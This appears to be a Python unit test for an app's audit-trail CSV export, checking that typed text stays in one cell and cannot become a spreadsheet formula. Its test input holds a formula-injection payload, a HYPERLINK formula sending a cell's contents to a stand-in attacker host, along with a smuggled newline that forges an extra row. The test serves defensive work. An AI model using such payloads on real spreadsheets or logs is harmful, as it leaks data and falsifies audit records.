"""The audit trail's CSV: text an instructor or a student typed (a roster's names, a title) stays one cell of one
row and never becomes a spreadsheet formula."""
import csv
import io
from datetime import datetime, timezone

from app.courses.audit import COLUMNS, to_csv


def test_typed_text_stays_one_cell_and_no_formula():
    event = {'at': datetime(2027, 3, 1, tzinfo=timezone.utc), 'actor': 'prof@uni.edu', 'action': 'roster',
             'subject': '', 'assignment': 'hw6',
             'detail': '=HYPERLINK("http://evil.example/?"&A1)\nprof@uni.edu,settings,,hw6,forged'}
    rows = list(csv.reader(io.StringIO(to_csv([event]))))
    assert rows[0] == list(COLUMNS) and len(rows) == 2
    assert rows[1][5] == '\'=HYPERLINK("http://evil.example/?"&A1)\\nprof@uni.edu,settings,,hw6,forged'
    assert rows[1][0] == '2027-03-01T00:00:00+00:00'
